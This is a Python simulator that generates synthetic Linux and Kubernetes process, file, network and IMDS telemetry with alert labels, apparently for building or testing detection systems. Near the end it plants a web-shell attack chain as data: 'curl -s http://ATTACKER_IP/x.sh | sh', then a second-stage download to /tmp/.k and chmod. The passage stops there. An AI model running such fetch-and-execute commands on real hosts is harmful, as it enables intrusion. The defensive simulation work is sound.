        "name": pod_name,
        "namespace": namespace,
        "cluster": CLUSTER,
        "workload": workload,
    }
    ip = f"10.244.{h.index}.{rng.randint(2, 250)}"
    sandbox = f"{rng.getrandbits(256):064x}"
    started = h.boot + rng.randint(60, 86400) * S
    shim = sim.proc(
        h.init,
        started,
        "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id "
        f"{sandbox} -address /run/containerd/containerd.sock",
        pid=h.boot_pid(rng),
        cgroup="/system.slice/containerd.service",
        service="containerd.service",
    )
    yield sim.exec(at(), shim)
    pause_box = _Box(sandbox, None, "registry.k8s.io/pause:3.9", pod, ip, 65535, None, "/")
    pause = sim.proc(shim, started + 80 * MS, "/pause", pid=h.boot_pid(rng), box=pause_box)
    yield sim.exec(at(), pause)
    box = _Box(f"{rng.getrandbits(256):064x}", name, image, pod, ip, uid, user, cwd)
    app = sim.proc(
        shim,
        started + 900 * MS,
        argv,
        exe=exe,
        pid=h.boot_pid(rng),
        box=box,
        comm="gunicorn" if name == "web" else None,
    )
    yield sim.exec(at(), app)
    h.pods[name] = (shim, box)
    if name == "web":
        for _ in range(2):
            worker = sim.fork(app, started + rng.randint(1000, 3000) * MS)
            yield sim.forked(at(), worker)
            sim.spawn(_gunicorn_worker(sim, c.copy(), app, worker))
    elif name == "redis":
        sim.spawn(_redis(sim, c.copy(), app))
    elif name == "coredns":
        sim.spawn(_coredns(sim, c.copy(), app))
    else:
        sim.spawn(_node_exporter(sim, c.copy(), app, "/host/proc"))


# -- servers and daemons: repetitive background activity ----------------------------------

_LB = ("10.0.0.5", "10.0.0.6", "10.0.0.7")
_STATIC = (
    "/var/www/html/index.html",
    "/var/www/html/static/app.js",
    "/var/www/html/static/style.css",
    "/var/www/html/static/logo.png",
    "/var/www/html/favicon.ico",
)


def _writer(sim: _Sim, c: _Clock, p: _Proc, mean_s: float, path: str, other: str = "") -> Step:
    """A daemon appending to its files (journald, rsyslog, the WAL writer)."""
    while True:
        target = other if other and sim.rng.random() < 0.2 else path
        yield sim.file(c.gap(mean_s), p, "file_write", target)


def _nginx_worker(sim: _Sim, c: _Clock, w: _Proc) -> Step:
    """Serves requests: static files, or PHP through the FastCGI socket."""
    rng = sim.rng
    while True:
        yield sim.accept(c.gap(1.4), w, rng.choice(_LB), 443)
        if rng.random() < 0.7:
            yield sim.read(c.ms(0.05, 0.4), w, rng.choice(_STATIC))
        else:
            yield sim.unix(c.ms(0.05, 0.4), w, "network_connect")
        yield sim.file(c.ms(0.5, 20), w, "file_write", "/var/log/nginx/access.log")


def _php_worker(sim: _Sim, c: _Clock, w: _Proc) -> Step:
    """Runs PHP pages that query the database."""
    rng = sim.rng
    pages = ("index.php", "login.php", "cart.php", "api/products.php")
    while True:
        yield sim.unix(c.gap(3.5), w, "network_accept")
        yield sim.read(c.ms(0.05, 0.3), w, f"/var/www/html/{rng.choice(pages)}")
        if rng.random() < 0.4:
            yield sim.connect(c.ms(0.3, 2), w, "10.0.2.15", 5432)


def _postgres(sim: _Sim, c: _Clock, master: _Proc) -> Step:
    """Accepts connections, each served by a forked backend that exits when it closes."""
    rng = sim.rng
    while True:
        peer, port = rng.choice(("127.0.0.1", "10.0.1.11", "10.0.1.14")), rng.randint(32768, 60999)
        yield sim.accept(c.gap(25), master, peer, 5432, port)
        title = f"postgres: 16/main: app appdb {peer}({port}) idle"
        backend = sim.fork(master, c.ms(0.2, 1), [title])
        yield sim.forked(c.t, backend)
        sim.spawn(_pg_backend(sim, c.copy(), backend))


def _pg_backend(sim: _Sim, c: _Clock, backend: _Proc) -> Step:
    rng = sim.rng
    for _ in range(rng.randint(1, 6)):
        relation = rng.choice((1259, 2619, 16402, 16410))
        path = f"/var/lib/postgresql/16/main/base/16384/{relation}"
        yield sim.file(c.gap(4), backend, "file_open", path, flags="O_RDWR")
    yield sim.exit(c.gap(20), backend)


def _java(sim: _Sim, c: _Clock, java: _Proc) -> Step:
    """A Spring service: requests, pooled database calls, a partner API, logs, IMDS."""
    rng = sim.rng
    agent = "aws-sdk-java/2.25.11 Linux/6.8.0-1018-aws OpenJDK_64-Bit_Server_VM/17.0.10"
    next_creds = c.t + int(rng.expovariate(1 / 300) * S)  # SDK credentials expire: refresh
    while True:
        r = rng.random()
        if r < 0.35:
            yield sim.accept(c.gap(0.7), java, rng.choice(_LB), 8080)
        elif r < 0.65:
            yield sim.connect(c.gap(0.7), java, "127.0.0.1", 5432)
        elif r < 0.8:
            yield sim.dns(c.gap(0.7), java, "payments.internal.example.com", "10.0.3.20")
            yield sim.connect(c.ms(0.2, 3), java, "10.0.3.20", 8443)
        else:
            yield sim.file(c.gap(0.7), java, "file_write", "/var/log/app/app.log")
        if c.t >= next_creds:
            # The AWS SDK refreshes the instance role's credentials: benign IMDS use.
            yield sim.connect(c.ms(1, 5), java, IMDS_IP, 80)
            yield sim.imds(c.ms(0.2, 1), java, "/latest/api/token", agent, method="PUT")
            path = "/latest/meta-data/iam/security-credentials/app-prod-role"
            yield sim.imds(c.ms(0.2, 2), java, path, agent, role="app-prod-role")
            next_creds = c.t + int(rng.expovariate(1 / 900) * S)


def _node_exporter(sim: _Sim, c: _Clock, p: _Proc, proc_root: str) -> Step:
    """Answers Prometheus scrapes every 15 s by reading /proc."""
    while True:
        c.t += 15 * S
        yield sim.accept(c.ms(-300, 300), p, "10.0.0.50", 9100)
        for name in ("stat", "meminfo", "net/dev"):
            yield sim.read(c.ms(0.1, 2), p, f"{proc_root}/{name}")


def _ssm_agent(sim: _Sim, c: _Clock, p: _Proc) -> Step:
    """Polls the SSM endpoint; reads the instance id (no credentials) from IMDS."""
    agent = "aws-sdk-go/1.50.0 (go1.21.6; linux; amd64) amazon-ssm-agent/3.3.40.0"
    while True:
        yield sim.imds(c.gap(240), p, "/latest/api/token", agent, method="PUT")
        yield sim.imds(c.ms(0.5, 3), p, "/latest/meta-data/instance-id", agent)
        yield sim.dns(c.ms(1, 10), p, "ssm.eu-west-1.amazonaws.com", "52.95.120.64")
        yield sim.connect(c.ms(0.5, 5), p, "52.95.120.64", 443)


def _gunicorn_worker(sim: _Sim, c: _Clock, master: _Proc, w: _Proc) -> Step:
    """Serves requests from the ingress; recycled after --max-requests."""
    rng = sim.rng
    pages = (
        "/app/templates/index.html",
        "/app/templates/product.html",
        "/app/templates/cart.html",
        "/app/static/app.css",
    )
    for _ in range(rng.randint(150, 400)):
        yield sim.accept(c.gap(2.0), w, "10.244.0.15", 8000)
        yield sim.read(c.ms(0.1, 1), w, rng.choice(pages))
        if rng.random() < 0.5:
            yield sim.dns(c.ms(0.1, 1), w, "redis.shop.svc.cluster.local", "10.96.45.10")
            yield sim.connect(c.ms(0.1, 1), w, "10.96.45.10", 6379)
    yield sim.exit(c.ms(1, 50), w)
    fresh = sim.fork(master, c.ms(5, 30))
    yield sim.forked(c.t, fresh)
    sim.spawn(_gunicorn_worker(sim, c.copy(), master, fresh))


def _redis(sim: _Sim, c: _Clock, p: _Proc) -> Step:
    while True:
        if sim.rng.random() < 0.1:
            yield sim.accept(c.gap(1.5), p, "10.244.1.23", 6379)
        else:
            aof = "/data/appendonlydir/appendonly.aof.1.incr.aof"
            yield sim.file(c.gap(1.5), p, "file_write", aof)


def _coredns(sim: _Sim, c: _Clock, p: _Proc) -> Step:
    while True:
        yield sim.connect(c.gap(6), p, "10.0.0.2", 53, protocol="udp")


def _kubelet(sim: _Sim, c: _Clock, kubelet: _Proc) -> Step:
    """Talks to the API server and runs the redis exec probe every 10 s through runc."""
    pod = kubelet.host.pods["redis"]
    while True:
        c.t += 10 * S
        c.ms(-50, 50)
        if sim.rng.random() < 0.5:
            yield sim.connect(c.t, kubelet, "10.0.0.1", 6443)
        probe = yield from _runc_exec(sim, c, pod, "redis-cli ping", tty=None, session=None)
        yield sim.connect(c.ms(0.2, 1), probe.proc, "127.0.0.1", 6379)
        yield sim.exit(c.ms(0.5, 3), probe.proc)


# -- cron and systemd timers ------------------------------------------------------------------


def _cron(sim: _Sim, c: _Clock, cron: _Proc) -> Step:
    """Wakes at each minute and forks a child per due job, which runs it under sh -c."""
    roles = cron.host.roles
    while True:
        c.t = (c.t // (60 * S) + 1) * 60 * S
        yield c.ms(1, 40)  # wake at the minute
        minute = (c.t // (60 * S)) % 60
        due = ["healthcheck" if "web" in roles or "jvm" in roles else "kubelet-check"]
        due += ["sysstat"] if minute % 10 == 5 else []
        due += ["sync"] if minute % 5 == 2 else []
        due += ["backup"] if "jvm" in roles and minute % 15 == 0 else []
        due += ["sessionclean"] if "web" in roles and minute % 30 == 9 else []
        for job in due:
            clock = c.copy()
            clock.ms(0.1, 3)
            sim.spawn(_cron_job(sim, clock, cron, job))


def _cron_job(sim: _Sim, c: _Clock, cron: _Proc, job: str) -> Step:
    """One cron run: a forked cron child with a fresh audit session, then sh -c."""
    command, body, uid, user = _JOBS[job]
    home = "/root" if uid == 0 else f"/home/{user}"
    # pam_loginuid gives every cron run the owner's login uid and a new audit session.
    child = sim.fork(cron, c.t, auid=uid, session_id=cron.host.new_session())
    yield sim.forked(c.t, child)
    sh = sim.proc(
        child,
        c.ms(1, 5),
        ["/bin/sh", "-c", command],
        uid=uid,
        user=user,
        gid=uid,
        group=user,
        cwd=home,
    )
    yield sim.exec(c.t, sh)
    c.ms(0.5, 2)
    if body is not None:
        yield from body(sim, c, sh)
    yield sim.exit(c.ms(0.2, 2), sh, 0 if sim.rng.random() < 0.97 else 1)
    yield sim.exit(c.ms(0.2, 2), child)


def _job_healthcheck(sim: _Sim, c: _Clock, sh: _Proc) -> Step:
    script = sim.proc(
        sh, c.t, "/bin/bash /usr/local/bin/healthcheck.sh", exe="/usr/local/bin/healthcheck.sh"
    )
    yield sim.exec(c.t, script)
    port = 80 if "web" in sh.host.roles else 8080
    c.ms(1, 3)
    url = f"http://127.0.0.1:{port}/healthz"
    yield from _simple(sim, c, script, f"curl -fsS {url}", connect=("127.0.0.1", port))
    yield sim.exit(c.ms(0.2, 1), script)


def _job_kubelet_check(sim: _Sim, c: _Clock, sh: _Proc) -> Step:
    url = "http://127.0.0.1:10248/healthz"
    yield from _simple(sim, c, sh, f"curl -fsS {url}", connect=("127.0.0.1", 10248))


def _job_sysstat(sim: _Sim, c: _Clock, sh: _Proc) -> Step:
    # debian-sa1 execs sa1, which execs sadc: one pid, three images.
    sa1 = sim.proc(
        sh, c.t, "/bin/sh /usr/lib/sysstat/debian-sa1 1 1", exe="/usr/lib/sysstat/debian-sa1"
    )
    yield sim.exec(c.t, sa1)
    sa1 = sim.replace(sa1, c.ms(1, 3), "/bin/sh /usr/lib/sysstat/sa1 1 1", "/usr/lib/sysstat/sa1")
    yield sim.exec(c.t, sa1)
    argv = "/usr/lib/sysstat/sadc -F -L -S DISK 1 1 /var/log/sysstat"
    sadc = sim.replace(sa1, c.ms(1, 3), argv, "/usr/lib/sysstat/sadc")
    yield sim.exec(c.t, sadc)
    yield sim.file(c.ms(900, 1100), sadc, "file_write", "/var/log/sysstat/sa05")
    yield sim.exit(c.ms(0.2, 1), sadc)


def _job_sync(sim: _Sim, c: _Clock, sh: _Proc) -> Step:
    script = sim.proc(sh, c.t, "/bin/bash /home/deploy/bin/sync.sh", exe="/home/deploy/bin/sync.sh")
    yield sim.exec(c.t, script)
    rsync = sim.proc(script, c.ms(1, 3), "rsync -az /srv/releases/ deploy@10.0.9.4:/srv/releases/")
    yield sim.exec(c.t, rsync)
    c.ms(1, 3)
    argv = "ssh -l deploy 10.0.9.4 rsync --server -logDtprze.iLsfxCIvu . /srv/releases/"
    yield from _simple(sim, c, rsync, argv, connect=("10.0.9.4", 22))
    yield sim.exit(c.ms(0.2, 1), rsync)
    yield sim.exit(c.ms(0.2, 1), script)


def _job_backup(sim: _Sim, c: _Clock, sh: _Proc) -> Step:
    script = sim.proc(sh, c.t, "/bin/bash /usr/local/bin/backup.sh", exe="/usr/local/bin/backup.sh")
    yield sim.exec(c.t, script)
    dump = sim.proc(
        script,
        c.ms(1, 3),
        "pg_dump -h 127.0.0.1 -U backup appdb",
        exe="/usr/lib/postgresql/16/bin/pg_dump",
    )
    yield sim.exec(c.t, dump)
    yield sim.connect(c.ms(0.5, 2), dump, "127.0.0.1", 5432)
    yield sim.file(c.ms(2000, 9000), dump, "file_create", "/var/backups/appdb.sql.gz", mode=0o600)
    yield sim.exit(c.ms(0.2, 1), dump)
    tar = sim.proc(script, c.ms(1, 3), "tar czf /var/backups/etc.tar.gz /etc")
    flagged = sim.exec(c.t, tar)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.sensitive_file_archive")
    for path in ("/etc/passwd", "/etc/shadow", "/etc/ssh/sshd_config"):
        yield sim.read(c.ms(0.1, 1), tar, path)
    yield sim.exit(c.ms(200, 900), tar)
    # The AWS CLI reads the instance role's credentials: benign IMDS use.
    aws = sim.proc(
        script,
        c.ms(1, 3),
        "aws s3 cp /var/backups/appdb.sql.gz s3://acme-backups/db/",
        exe="/usr/local/bin/aws",
    )
    yield sim.exec(c.t, aws)
    agent = "aws-cli/2.15.30 Python/3.11.8 Linux/6.8.0-1018-aws exe/x86_64.ubuntu.22"
    yield sim.imds(c.ms(100, 300), aws, "/latest/api/token", agent, method="PUT")
    path = "/latest/meta-data/iam/security-credentials/backup-role"
    yield sim.imds(c.ms(0.5, 2), aws, path, agent, role="backup-role")
    yield sim.dns(c.ms(1, 5), aws, "acme-backups.s3.eu-west-1.amazonaws.com", "52.218.48.10")
    yield sim.connect(c.ms(0.5, 3), aws, "52.218.48.10", 443)
    yield sim.exit(c.ms(500, 3000), aws)
    yield sim.exit(c.ms(0.2, 1), script)


_JOBS: dict[str, tuple[str, Callable[[_Sim, _Clock, _Proc], Step] | None, int, str]] = {
    # job: (crontab command, what it runs, owner uid, owner)
    "healthcheck": ("/usr/local/bin/healthcheck.sh >/dev/null 2>&1", _job_healthcheck, 0, "root"),
    "kubelet-check": ("curl -fsS http://127.0.0.1:10248/healthz >/dev/null || logger kubelet down",
                      _job_kubelet_check, 0, "root"),
    "sysstat": ("command -v debian-sa1 > /dev/null && debian-sa1 1 1", _job_sysstat, 0, "root"),
    "sync": ("/home/deploy/bin/sync.sh", _job_sync, 1002, "deploy"),
    "backup": ("/usr/local/bin/backup.sh", _job_backup, 0, "root"),
    "sessionclean": ("[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; "
                     "then /usr/lib/php/sessionclean; fi", None, 0, "root"),
}  # fmt: skip


def _timers(sim: _Sim, c: _Clock, h: _Host) -> Step:
    """Systemd timers: each run is a fresh process tree in its unit's cgroup."""
    units = (
        ("logrotate.service", "/usr/sbin/logrotate /etc/logrotate.conf", None),
        ("systemd-tmpfiles-clean.service", "systemd-tmpfiles --clean", None),
        (
            "apt-daily.service",
            "/bin/sh /usr/lib/apt/apt.systemd.daily update",
            "/usr/lib/apt/apt.systemd.daily",
        ),
        ("man-db.service", "/usr/bin/mandb --quiet", None),
    )
    while True:
        yield c.gap(420)
        unit, argv, exe = sim.rng.choice(units)
        p = sim.proc(h.init, c.t, argv, exe=exe, cgroup=f"/system.slice/{unit}", service=unit)
        sim.spawn(_timer_run(sim, c.copy(), p, unit))


def _timer_run(sim: _Sim, c: _Clock, p: _Proc, unit: str) -> Step:
    rng = sim.rng
    yield sim.exec(c.t, p)
    if unit == "logrotate.service":
        for log in ("/var/log/syslog", "/var/log/auth.log"):
            yield sim.file(c.ms(1, 5), p, "file_rename", log, target_path=log + ".1")
            yield sim.file(c.ms(0.1, 1), p, "file_create", log, mode=0o640)
        gzip = sim.proc(p, c.ms(1, 5), "gzip -9 /var/log/syslog.2")
        yield sim.exec(c.t, gzip)
        yield sim.file(c.ms(20, 200), gzip, "file_create", "/var/log/syslog.2.gz", mode=0o640)
        yield sim.file(c.ms(0.1, 1), gzip, "file_unlink", "/var/log/syslog.2")
        yield sim.exit(c.ms(0.1, 1), gzip)
        c.ms(1, 5)
        yield from _simple(sim, c, p, ["/bin/sh", "-c", "invoke-rc.d rsyslog rotate > /dev/null"])
    elif unit == "systemd-tmpfiles-clean.service":
        for _ in range(rng.randint(1, 4)):
            yield sim.file(c.ms(0.1, 2), p, "file_unlink", f"/tmp/tmp.{_suffix(rng, 10)}")
    elif unit == "apt-daily.service":
        apt = sim.proc(p, c.ms(5, 20), "apt-get -qq -y update")
        yield sim.exec(c.t, apt)
        yield from _apt_fetch(sim, c, apt, "archive.ubuntu.com", "91.189.91.83")
        lists = "/var/lib/apt/lists/archive.ubuntu.com_ubuntu_dists_jammy-updates_InRelease"
        yield sim.file(c.ms(1, 10), apt, "file_write", lists)
        yield sim.exit(c.ms(1, 10), apt)
    else:
        yield sim.file(c.ms(100, 900), p, "file_write", "/var/cache/man/index.db")
    yield sim.exit(c.ms(1, 20), p)


# -- SSH: logins, interactive shells, sudo, tmux ----------------------------------------------

_USERS = (("alice", 1000), ("bob", 1001))


def _sshd(sim: _Sim, c: _Clock, sshd: _Proc) -> Step:
    """Accepts connections: scanners that fail, admins' logins, automation."""
    rng = sim.rng
    while True:
        c.gap(100)
        r = rng.random()
        if r < 0.5:
            yield sim.accept(c.t, sshd, f"192.0.2.{rng.randint(2, 254)}", 22)
            priv = sim.proc(sshd, c.ms(1, 5), ["sshd: root [priv]"], exe="/usr/sbin/sshd")
            yield sim.exec(c.t, priv)
            yield sim.read(c.ms(0.5, 3), priv, "/etc/shadow")
            yield sim.exit(c.ms(1500, 3500), priv, 255)
            continue
        automated = r > 0.8
        user, uid = ("deploy", 1002) if automated else rng.choice(_USERS)
        peer = "10.0.9.4" if automated else f"10.8.0.{rng.randint(2, 60)}"
        port = rng.randint(32768, 60999)
        yield sim.accept(c.t, sshd, peer, 22, port)
        clock = c.copy()
        clock.ms(1, 5)
        sim.spawn(_ssh_login(sim, clock, sshd, user, uid, peer, port, automated))


def _ssh_login(
    sim: _Sim, c: _Clock, sshd: _Proc, user: str, uid: int, peer: str, port: int, automated: bool
) -> Step:
    """sshd -> sshd: user [priv] -> sshd: user@pts/N (new auid and session) -> a shell."""
    rng, h = sim.rng, sshd.host
    priv = sim.proc(sshd, c.t, [f"sshd: {user} [priv]"], exe="/usr/sbin/sshd")
    yield sim.exec(c.t, priv)
    for path in ("/etc/passwd", "/etc/shadow"):
        yield sim.read(c.ms(0.2, 2), priv, path)
    ses, tty, home = h.new_session(), None if automated else h.open_pts(), f"/home/{user}"
    # pam_loginuid and pam_systemd: the login uid, a new audit session, a session scope.
    usersshd = sim.fork(
        priv,
        c.ms(20, 200),
        [f"sshd: {user}@{tty or 'notty'}"],
        uid=uid,
        user=user,
        gid=uid,
        group=user,
        auid=uid,
        session_id=ses,
        cgroup=f"/user.slice/user-{uid}.slice/session-{ses}.scope",
        service=None,
    )
    yield sim.forked(c.t, usersshd)
    session = None
    if h.ssh_sessions:
        session = _obj(kind="ssh", id=str(ses), user=user, ssh_client_ip=peer, ssh_client_port=port)
    c.ms(2, 10)
    if automated:
        # Ansible: a non-interactive sh -c, without a tty.
        tmp = f"{home}/.ansible/tmp/ansible-tmp-{c.t // S}.{rng.randint(1000, 9999)}"
        command = f"/usr/bin/python3 {tmp}/AnsiballZ_setup.py && sleep 0"
        sh = sim.proc(usersshd, c.t, ["/bin/sh", "-c", command], cwd=home, session=session)
        yield sim.exec(c.t, sh)
        py = sim.proc(sh, c.ms(1, 3), ["/usr/bin/python3", f"{tmp}/AnsiballZ_setup.py"])
        yield sim.exec(c.t, py)
        for path in ("/etc/os-release", "/proc/cpuinfo", "/etc/machine-id"):
            yield sim.read(c.ms(1, 10), py, path)
        c.ms(5, 20)
        yield from _simple(sim, c, py, "systemctl is-active app")
        yield sim.exit(c.ms(50, 400), py)
        yield sim.exit(c.ms(0.5, 2), sh)
    else:
        shell = sim.proc(
            usersshd,
            c.t,
            ["-bash"],
            exe="/bin/bash",
            comm="bash",
            cwd=home,
            tty=tty,
            session=session,
        )
        yield sim.exec(c.t, shell)
        for path in ("/etc/profile", f"{home}/.bashrc", f"{home}/.bash_history"):
            yield sim.read(c.ms(0.1, 5), shell, path)
        yield from _session(sim, c, shell, rng.randint(4, 12), nested=True)
        yield sim.file(c.gap(4), shell, "file_write", f"{home}/.bash_history")
        yield sim.exit(c.ms(0.5, 2), shell)
    yield sim.exit(c.ms(1, 10), usersshd)
    yield sim.exit(c.ms(1, 10), priv)
    if tty:
        h.close_pts(tty)


_USER_CMDS = (
    "ls -la",
    "df -h",
    "uptime",
    "free -m",
    "ps aux",
    "top -b -n 1",
    "du -sh /var/log",
    "cat /etc/os-release",
    "tail -n 100 /var/log/syslog",
    "grep -c error /var/log/syslog",
)
_ROOT_CMDS = (
    "systemctl status nginx",
    "journalctl -u ssh -n 50",
    "apt list --upgradable",
    "ss -tlnp",
    "cat /etc/shadow",
    "tail -n 20 /var/log/auth.log",
)


def _reads(argv: str) -> tuple[str, ...]:
    """Returns the files a simple command opens: the absolute paths it names."""
    args = shlex.split(argv)
    if args[0] in ("ls", "du"):  # they list directories
        return ()
    return tuple(a for a in args[1:] if a.startswith("/"))


def _session(sim: _Sim, c: _Clock, shell: _Proc, count: int, nested: bool) -> Step:
    """Types `count` commands into an interactive shell at human pace."""
    rng = sim.rng
    root = shell.attrs["uid"] == 0
    for _ in range(count):
        c.gap(6)
        r = rng.random()
        home = shell.attrs["cwd"]
        if nested and r < 0.12:
            yield from _sudo(sim, c, shell)
        elif nested and r < 0.22:
            yield from _tmux(sim, c, shell)
        elif r < 0.32:
            yield from _vim(sim, c, shell, f"{home}/notes.md")
        elif r < 0.40 and not root:
            yield from _git_pull(sim, c, shell)
        elif r < 0.43 and not root:
            yield from _http_server(sim, c, shell)
        elif r < 0.48:
            argv = "curl -s http://127.0.0.1:8080/actuator/health"
            yield from _simple(sim, c, shell, argv, connect=("127.0.0.1", 8080))
        else:
            argv = rng.choice(_ROOT_CMDS if root else _USER_CMDS)
            code = 1 if argv.startswith("grep") and rng.random() < 0.3 else 0
            yield from _simple(sim, c, shell, argv, reads=_reads(argv), code=code)


def _sudo(sim: _Sim, c: _Clock, shell: _Proc) -> Step:
    """sudo -i -> a root login shell on the same tty, same login uid and audit session."""
    sudo = sim.proc(shell, c.t, "sudo -i")
    flagged = sim.exec(c.t, sudo)
    yield flagged
    yield sim.read(c.ms(0.2, 1), sudo, "/etc/sudoers")
    yield from _alert(sim, c, flagged, "sensor.sudo_root_shell")
    c.ms(1500, 5000)  # the password prompt
    root = sim.proc(
        sudo,
        c.t,
        ["-bash"],
        exe="/bin/bash",
        comm="bash",
        uid=0,
        user="root",
        gid=0,
        group="root",
        cwd="/root",
    )
    yield sim.exec(c.t, root)
    yield from _session(sim, c, root, sim.rng.randint(2, 5), nested=False)
    yield sim.exit(c.gap(3), root)
    yield sim.exit(c.ms(0.5, 2), sudo)


def _tmux(sim: _Sim, c: _Clock, shell: _Proc) -> Step:
    """tmux -> tmux server -> a login shell on a new pts."""
    h = shell.host
    client = sim.proc(shell, c.t, "tmux new -s work")
    yield sim.exec(c.t, client)
    server = sim.fork(client, c.ms(2, 10), tty=None)
    yield sim.forked(c.t, server)
    socket = f"/tmp/tmux-{server.attrs['uid']}/default"
    yield sim.file(c.ms(2, 10), server, "file_create", socket, mode=0o770)
    tty = h.open_pts()
    inner = sim.proc(server, c.ms(2, 10), ["-bash"], exe="/bin/bash", comm="bash", tty=tty)
    yield sim.exec(c.t, inner)
    yield from _session(sim, c, inner, sim.rng.randint(2, 5), nested=False)
    if sim.rng.random() < 0.5:
        tail = sim.proc(inner, c.gap(3), "tail -f /var/log/syslog")
        yield sim.exec(c.t, tail)
        yield sim.read(c.ms(0.1, 1), tail, "/var/log/syslog")
        yield sim.exit(c.gap(20), tail, None, "SIGINT")
    yield sim.exit(c.gap(3), inner)
    h.close_pts(tty)
    yield sim.exit(c.ms(1, 5), server)
    yield sim.exit(c.ms(1, 5), client)


def _vim(sim: _Sim, c: _Clock, shell: _Proc, path: str) -> Step:
    folder, name = path.rsplit("/", 1)
    swap = f"{folder}/.{name}.swp"
    vim = sim.proc(shell, c.t, ["vim", path])
    yield sim.exec(c.t, vim)
    yield sim.read(c.ms(2, 10), vim, path)
    yield sim.file(c.ms(1, 5), vim, "file_create", swap, mode=0o600)
    yield sim.file(c.gap(25), vim, "file_write", path)
    yield sim.file(c.ms(0.5, 3), vim, "file_unlink", swap)
    yield sim.exit(c.ms(1, 5), vim)


def _git_pull(sim: _Sim, c: _Clock, shell: _Proc) -> Step:
    repo = f"{shell.attrs['cwd']}/infra"
    git = sim.proc(shell, c.t, "git pull", cwd=repo)
    yield sim.exec(c.t, git)
    argv = "ssh -o SendEnv=GIT_PROTOCOL git@github.com \"git-upload-pack 'acme/infra.git'\""
    ssh = sim.proc(git, c.ms(2, 10), argv)
    yield sim.exec(c.t, ssh)
    yield sim.dns(c.ms(1, 5), ssh, "github.com", "140.82.121.3")
    yield sim.connect(c.ms(1, 5), ssh, "140.82.121.3", 22)
    yield sim.exit(c.ms(300, 1500), ssh)
    yield sim.file(c.ms(1, 10), git, "file_write", f"{repo}/.git/FETCH_HEAD")
    yield sim.exit(c.ms(1, 10), git)


def _http_server(sim: _Sim, c: _Clock, shell: _Proc) -> Step:
    """A developer serves a directory for a minute, then presses Ctrl-C."""
    py = sim.proc(shell, c.t, "python3 -m http.server 8000")
    yield sim.exec(c.t, py)
    yield sim.listen(c.ms(20, 60), py, "network_bind", 8000)
    yield sim.listen(c.ms(0.1, 1), py, "network_listen", 8000)
    for _ in range(sim.rng.randint(1, 3)):
        yield sim.accept(c.gap(15), py, f"10.8.0.{sim.rng.randint(2, 60)}", 8000)
        yield sim.read(c.ms(0.2, 2), py, f"{shell.attrs['cwd']}/report.html")
    yield sim.exit(c.gap(20), py, None, "SIGINT")


# -- kubectl exec ----------------------------------------------------------------------------

_K8S_USERS = (
    ("bob@example.com", ["system:authenticated", "oidc:developers"]),
    ("carol@example.com", ["system:authenticated", "oidc:sre"]),
    ("alice@example.com", ["system:authenticated", "oidc:developers"]),
)


def _k8s_session(sim: _Sim, user: str, groups: list[str]) -> str:
    return _obj(kind="k8s", id=_uuid(sim.rng), user=user, k8s_uid=_uuid(sim.rng), k8s_groups=groups)


def _kubectl_sessions(sim: _Sim, c: _Clock, h: _Host) -> Step:
    """Developers', SREs' and CI's kubectl exec sessions into the shop pods."""
    while True:
        yield c.gap(480)
        sim.spawn(_kubectl_exec(sim, c.copy(), h.pods[sim.rng.choice(("web", "redis"))]))


def _kubectl_exec(sim: _Sim, c: _Clock, pod: tuple[_Proc, _Box]) -> Step:
    rng = sim.rng
    web = pod[1].name == "web"
    if rng.random() < 0.3:
        # A CI job's one-shot command: no tty, no shell.
        groups = ["system:serviceaccounts", "system:serviceaccounts:ci"]
        session = _k8s_session(sim, "system:serviceaccount:ci:deployer", groups)
        argv = "python -m app.cli cleanup-sessions" if web else "redis-cli info memory"
        first = yield from _runc_exec(sim, c, pod, argv, tty=None, session=session)
        yield sim.exit(c.ms(50, 900), first.proc)
        return
    session = _k8s_session(sim, *rng.choice(_K8S_USERS))
    first = yield from _runc_exec(
        sim, c, pod, "bash" if web else "sh", tty="pts/0", session=session
    )
    shell = first.proc
    if rng.random() < 0.5:
        yield from _alert(sim, c, first, "sensor.k8s_exec_shell")
    if web:
        commands = (
            "env",
            "ls /app",
            "cat /app/settings.py",
            "ps aux",
            "python -c 'import app; print(app.__version__)'",
        )
    else:
        commands = ("redis-cli dbsize", "ls -la /data", "cat /usr/local/etc/redis/redis.conf")
    for _ in range(rng.randint(2, 5)):
        c.gap(8)
        argv = rng.choice(commands)
        yield from _simple(sim, c, shell, argv, reads=_reads(argv))
    yield sim.exit(c.gap(5), shell)


# -- planted attack chains --------------------------------------------------------------------


def _chain_webshell(sim: _Sim, h: _Host, chain: _Chain, c: _Clock) -> Step:
    """A web server worker -> sh -c "curl | sh" -> download, crontab, IMDS credentials."""
    rng = sim.rng
    nginx = rng.choice(h.nginx_workers)
    yield sim.accept(c.ms(1, 500), nginx, ATTACKER_IP, 443)
    parent = nginx
    via_php = int(chain.id.rsplit("-", 1)[1]) % 2 == 0  # every other one goes through PHP
    if via_php:
        yield sim.unix(c.ms(0.2, 1), nginx, "network_connect")
        parent = rng.choice(h.php_workers)
        yield sim.unix(c.ms(0.1, 0.5), parent, "network_accept")
        yield sim.read(c.ms(0.1, 0.5), parent, "/var/www/html/uploads/avatar.php")
    command = f"curl -s http://{ATTACKER_IP}/x.sh | sh"
    root = sim.proc(
        parent,
        c.ms(1, 5),
        ["sh", "-c", command],
        chain=chain,
        cwd="/var/www/html/uploads" if via_php else "/",
    )
    chain.root = root.identity
    flagged = sim.exec(c.t, root)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.shell_from_webserver", compromises=True)
    curl = sim.proc(root, c.t, f"curl -s http://{ATTACKER_IP}/x.sh")
    flagged = sim.exec(c.t, curl)
    yield flagged
    sh = sim.proc(root, c.ms(0.1, 1), "sh")
    yield sim.exec(c.t, sh)
    yield from _alert(sim, c, flagged, "sensor.ingress_tool_transfer")
    yield sim.connect(c.t, curl, ATTACKER_IP, 80)
    yield sim.exit(c.ms(50, 300), curl)
    # What x.sh does, command by command.
    c.ms(1, 5)
    yield from _simple(sim, c, sh, "id")
    stage2 = sim.proc(sh, c.ms(1, 5), "curl -s -o /tmp/.k http://dl.example.net/k")
    yield sim.exec(c.t, stage2)
    yield sim.dns(c.ms(0.5, 2), stage2, "dl.example.net", "203.0.113.8")
    yield sim.connect(c.ms(0.5, 2), stage2, "203.0.113.8", 80)
    yield sim.file(c.ms(0.5, 2), stage2, "file_create", "/tmp/.k", mode=0o644)
    yield sim.exit(c.ms(100, 800), stage2)
    chmod = sim.proc(sh, c.ms(1, 5), "chmod +x /tmp/.k")
